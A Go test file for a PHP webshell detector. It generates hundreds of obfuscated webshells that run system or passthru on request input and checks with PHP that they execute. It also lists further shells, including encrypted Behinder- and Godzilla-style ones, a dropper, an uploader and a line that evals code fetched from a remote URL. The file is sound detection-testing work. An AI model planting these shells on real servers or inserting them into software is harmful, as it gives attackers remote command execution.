package php

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/boltseal/boltseal/finding"
)

// hideouts write a text as an expression that gives it.
var hideouts = map[string]func(string) string{
	"plain":  func(s string) string { return "'" + s + "'" },
	"concat": func(s string) string { return "'" + s[:2] + "'.'" + s[2:] + "'" },
	"base64": func(s string) string { return "base64_decode('" + base64.StdEncoding.EncodeToString([]byte(s)) + "')" },
	"hex":    func(s string) string { return "hex2bin('" + hex.EncodeToString([]byte(s)) + "')" },
	"pack":   func(s string) string { return "pack('H*','" + hex.EncodeToString([]byte(s)) + "')" },
	"rot13":  func(s string) string { return "str_rot13('" + mapBytes(s, rot13) + "')" },
	"strrev": func(s string) string { return "strrev('" + reversed(s) + "')" },
	"chr": func(s string) string {
		var parts []string
		for i := range len(s) {
			parts = append(parts, fmt.Sprintf("chr(%d)", s[i]))
		}
		return strings.Join(parts, ".")
	},
	"escape": func(s string) string { return `"\x` + strings.Join(pairs(hex.EncodeToString([]byte(s))), `\x`) + `"` },
	"xor": func(s string) string {
		mask := strings.Repeat("\x01", len(s))
		return "('" + bits("^", s, mask) + "'^\"" + strings.Repeat(`\x01`, len(s)) + "\")"
	},
	"replace": func(s string) string { return "str_replace('#','','" + strings.Join(strings.Split(s, ""), "#") + "')" },
	"implode": func(s string) string { return "implode('',['" + strings.Join(strings.Split(s, ""), "','") + "'])" },
	"array":   func(s string) string { return "array('x'=>'" + s[:3] + "','y'=>'" + s[3:] + "')['x'].'" + s[3:] + "'" },
	"substr":  func(s string) string { return "substr('zz" + s + "zz',2,-2)" },
}

func pairs(s string) []string {
	var out []string
	for i := 0; i < len(s); i += 2 {
		out = append(out, s[i:i+2])
	}
	return out
}

// techniques run the command in the request's c; %s is the name of the function
// that runs it. Each prints what the command prints.
var techniques = map[string]string{
	"variable function": "$f=%s; $f($_GET['c']);",
	"call_user_func":    "call_user_func(%s,$_GET['c']);",
	"array_map":         "array_map(%s,[$_GET['c']]);",
	"array_filter":      "array_filter([$_REQUEST['c']],%s);",
	"array_walk":        "$a=[$_GET['c']]; $f=%s; array_walk($a,function($v) use($f){$f($v);});",
	"usort":             "$f=%s; $a=[$_GET['c'],'true']; usort($a,function($x,$y) use($f){ return (int)$f($x); });",
	"reflection":        "(new ReflectionFunction(%s))->invoke($_GET['c']);",
	"reflection args":   "$r=new ReflectionFunction(%s); $r->invokeArgs(array($_GET['c']));",
	"closure":           "$f=Closure::fromCallable(%s); $f($_GET['c']);",
	"shutdown":          "register_shutdown_function(%s,$_GET['c']);",
	"user function":     "function run($f,$x){ return $f($x); } run(%s,$_GET['c']);",
	"destructor":        "class T{ public $f; public $x; function __destruct(){ ($this->f)($this->x); } } $t=new T; $t->f=%s; $t->x=$_GET['c'];",
	"invoke":            "class T{ function __construct(public $f){} function __invoke($x){ ($this->f)($x); } } $t=new T(%s); $t($_GET['c']);",
	"magic call":        "class T{ function __call($n,$a){ $n($a[0]); } } $m=%s; (new T)->$m($_GET['c']);",
	"generator":         "function g(){ yield $_GET['c']; } $f=%s; foreach(g() as $x) $f($x);",
	"variable variable": "$n='cmd'; $$n=$_GET['c']; $f=%s; $f($cmd);",
	"extract":           "extract($_GET); $f=%s; $f($c);",
	"parse_str":         "parse_str($_SERVER['QUERY_STRING'],$q); $f=%s; $f($q['c']);",
	"constant":          "define('F',%s); $f=F; $f($_GET['c']);",
	"goto":              "goto a; b: $f($x); goto c; a: $f=%s; $x=$_GET['c']; goto b; c: ;",
	"filter":            "filter_var($_GET['c'],FILTER_CALLBACK,['options'=>%s]);",
	"ArrayObject":       "$f=%s; $o=new ArrayObject([$_GET['c'],'true']); $o->uasort(function($a,$b) use($f){ return (int)$f($a); });",
	"exception":         "$f=%s; try { throw new Exception($_GET['c']); } catch (Exception $e) { $f($e->getMessage()); }",
	"static property":   "class S{ static $f; } S::$f=%s; $f=S::$f; $f($_GET['c']);",
	"iterator_apply":    "iterator_apply(new ArrayIterator([1]),%s,[$_GET['c']]);",
	"list":              "list($f,$x)=[%s,$_GET['c']]; $f($x);",
	"reference":         "$f=%s; $y=&$x; $y=$_GET['c']; $f($x);",
	"serialized":        "$a=unserialize(serialize([%s,$_GET['c']])); $a[0]($a[1]);",
}

// samples are all techniques with all hideouts: WebShells that run.
func samples() map[string]string {
	out := map[string]string{}
	for tn, t := range techniques {
		for hn, h := range hideouts {
			for _, f := range []string{"system", "passthru"} {
				out[tn+", "+hn+", "+f] = "<?php " + fmt.Sprintf(t, h(f))
			}
		}
	}
	return out
}

func level(t testing.TB, name, src string) finding.Confidence {
	t.Helper()
	vs, err := New().Analyze(t.Context(), name, []byte(src))
	if err != nil {
		t.Errorf("%s: %v", name, err)
	}
	best := finding.Confidence("")
	for _, v := range vs {
		switch {
		case v.Confidence == finding.ConfidenceHigh:
			return v.Confidence
		case v.Confidence == finding.ConfidenceMedium || best == "":
			best = v.Confidence
		}
	}
	return best
}

func TestSamples(t *testing.T) {
	all := samples()
	if len(all) < 300 {
		t.Fatalf("only %d samples", len(all))
	}
	for name, src := range all {
		if got := level(t, "x.php", src); got != finding.ConfidenceHigh && got != finding.ConfidenceMedium {
			t.Errorf("%s: found with confidence %q\n%s", name, got, src)
		}
	}
}

// TestSamplesRun proves with PHP itself that the samples are WebShells.
func TestSamplesRun(t *testing.T) {
	php, err := exec.LookPath("php")
	if err != nil {
		t.Skip("php is not installed: it says whether the samples are WebShells")
	}
	file := filepath.Join(t.TempDir(), "x.php")
	prelude := "$_GET=$_REQUEST=['c'=>'echo bolt''seal']; $_SERVER['QUERY_STRING']='c=echo+bolt%27%27seal';"
	prelude = strings.ReplaceAll(prelude, "bolt''seal", `bolt\'\'seal`)
	for name, src := range samples() {
		if strings.HasSuffix(name, "passthru") && !strings.Contains(name, "base64") {
			continue // the same as with system
		}
		if err := os.WriteFile(file, []byte("<?php "+prelude+" ?>"+src), 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.CommandContext(t.Context(), php, "-d", "display_errors=stderr", file).Output()
		if !strings.Contains(string(out), "boltseal") {
			t.Errorf("%s does not run: %v\n%s\n%s", name, err, src, out)
		}
	}
}

// TestShells are ways to run code that PHP 8 no longer has, or that need a request.
func TestShells(t *testing.T) {
	for name, src := range map[string]string{
		"eval":              "eval($_POST['x']);",
		"short tag":         "?><?=`$_GET[0]`?>",
		"old bare word":     "function f($a){ $a($_POST['x']); } f(assert);",
		"preg e":            "preg_replace('/.*/e',$_POST['x'],'');",
		"create_function":   "$f=create_function('',$_POST['q']); $f();",
		"packed":            "eval(gzinflate(base64_decode('S0ktSVTIL1JIyy8tUnBUAAA=')));",
		"include":           "include $_GET['f'];",
		"register globals":  "foreach($_POST as $k=>$v) $$k=$v; eval($code);",
		"Behinder":          "$p=file_get_contents('php://input'); $p=openssl_decrypt($p,'AES128',$_SESSION['k']); $a=explode('|',$p); class C{public function __invoke($p){eval($p);}} @call_user_func(new C(),$a[1]);",
		"Godzilla":          "function encode($D,$K){for($i=0;$i<strlen($D);$i++){$c=$K[$i+1&15];$D[$i]=$D[$i]^$c;}return $D;} $d=file_get_contents('php://input'); $d=encode($d,'3c6e0b8a9c15224a'); if(isset($_SESSION['p'])){ eval(encode($_SESSION['p'],'k')); } else { $_SESSION['p']=$d; eval($d); }",
		"uploader":          "if(move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name'])) echo 'ok';",
		"writer":            "file_put_contents($_GET['f'],$_POST['c']);",
		"dropper":           "file_put_contents('x.php',base64_decode('" + base64.StdEncoding.EncodeToString([]byte("<?php eval($_POST[1]);")) + "'));",
		"two files":         "file_put_contents('/tmp/a',$_POST['a']); include '/tmp/a';",
		"headers":           "$h=getallheaders(); eval($h['X']);",
		"decrement loop":    "$s='';for($i=0;$i<6;$i++){$s.=chr(ord('tztufn'[$i])-1);} $s($_GET['c']);",
		"counted letters":   "$a='a'; for($i=0;$i<18;$i++) $a++; $b=$a.'ystem'; $b($_GET[1]);",
		"download":          "eval(file_get_contents('http://example.org/z'));",
		"magic get":         "class T{ function __get($n){ eval($_POST[$n]); } } $t=new T; $t->q;",
		"wakeup":            "unserialize($_GET['o']); class Z{public $c; function __wakeup(){ eval($this->c);} }",
		"output buffer":     "ob_start('system'); echo $_GET['c']; ob_end_flush();",
		"request functions": "$f=$_SERVER['HTTP_X']; $f($_SERVER['HTTP_Y']);",
		"doc comment":       "/** system */ class D{} $d=(new ReflectionClass('D'))->getDocComment(); $f=trim($d,'/* '); $f($_GET['c']);",
	} {
		if got := level(t, "x.php", "<?php "+src); got != finding.ConfidenceHigh && got != finding.ConfidenceMedium {
			t.Errorf("%s: found with confidence %q", name, got)
		}
	}
}

// TestBenign is code of applications that looks like it.
func TestBenign(t *testing.T) {
	for name, src := range map[string]string{
		"template":        "class View{ function render($t,$vars){ extract($vars); eval('?>'.$t); } }",
		"escaped":         "system('ping -c1 '.escapeshellarg($_GET['host']));",
		"dispatch":        "require 'app.php'; $a=$_GET['action']; if(in_array($a,['list','show'])) { $a(); }",
		"callback":        "namespace App; class Bus{ function fire($cb,$args){ return call_user_func_array($cb,$args); } }",
		"sort":            "usort($items,function($a,$b){ return $a['x']-$b['x']; });",
		"upload":          "require 'init.php'; if(is_uploaded_file($_FILES['f']['tmp_name'])) move_uploaded_file($_FILES['f']['tmp_name'],'/var/u/'.basename($_FILES['f']['name']));",
		"constant eval":   "eval('class Foo extends Bar {}');",
		"number":          "system('kill '.intval($_GET['pid']));",
		"include default": "$p='home'; if(isset($_GET['p'])) $p=basename($_GET['p']); include __DIR__.'/pages/'.$p.'.php';",
		"command line":    "foreach ($_SERVER['argv'] as $a) { exec('convert '.$a); }",
	} {
		if got := level(t, "x.php", "<?php "+src); got == finding.ConfidenceHigh || got == finding.ConfidenceMedium {
			t.Errorf("%s: false alarm with confidence %q", name, got)
		}
	}
}
